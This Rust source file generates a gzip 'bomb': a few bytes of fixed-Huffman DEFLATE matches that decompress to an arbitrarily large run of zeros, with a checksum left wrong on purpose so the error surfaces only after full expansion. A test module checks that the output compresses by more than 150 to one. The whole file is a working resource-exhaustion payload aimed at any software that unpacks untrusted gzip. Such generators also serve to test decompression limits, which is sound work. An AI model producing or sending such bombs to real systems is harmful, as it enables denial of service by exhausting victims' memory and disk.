//! A gzip bomb: zeros, packed as closely as fixed Huffman codes can (RFC 1951, 3.2.6).

/// Zeros that one match stands for.
const MATCH: usize = 258;

/// Gzip that unpacks to so many zeros, or a few less. Its checksum is wrong: by then all is unpacked.
pub fn zeros(length: usize) -> Vec<u8> {
    let mut bytes = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    let mut bits = Bits::default();
    // The last block, with fixed codes; the literal 0.
    bits.put("110", &mut bytes);
    bits.put("00110000", &mut bytes);
    for _ in 0..length.saturating_sub(1) / MATCH {
        // 285: a match of 258, no further bits; distance 1.
        bits.put("11000101", &mut bytes);
        bits.put("00000", &mut bytes);
    }
    // The end of the block, and zeros up to a whole byte.
    bits.put("00000000000000", &mut bytes);
    bytes.extend_from_slice(&[0; 8]);
    bytes
}

/// Bits, from the lowest of a byte on.
#[derive(Default)]
struct Bits {
    byte: u8,
    count: u8,
}

impl Bits {
    fn put(&mut self, code: &str, bytes: &mut Vec<u8>) {
        for bit in code.bytes() {
            self.byte |= u8::from(bit == b'1') << self.count;
            self.count += 1;
            if self.count == 8 {
                bytes.push(std::mem::take(&mut self.byte));
                self.count = 0;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_few_bytes_stand_for_many() {
        // What `gzip -dc` unpacks to 1 + 2 × 258 zeros, and then finds its checksum wrong.
        let small = zeros(517);
        assert_eq!(small[10..16], [0x63, 0x18, 0x05, 0xa3, 0x00, 0x00]);
        let large = zeros(16 << 20);
        assert!((16 << 20) / large.len() > 150, "{}", large.len());
    }
}
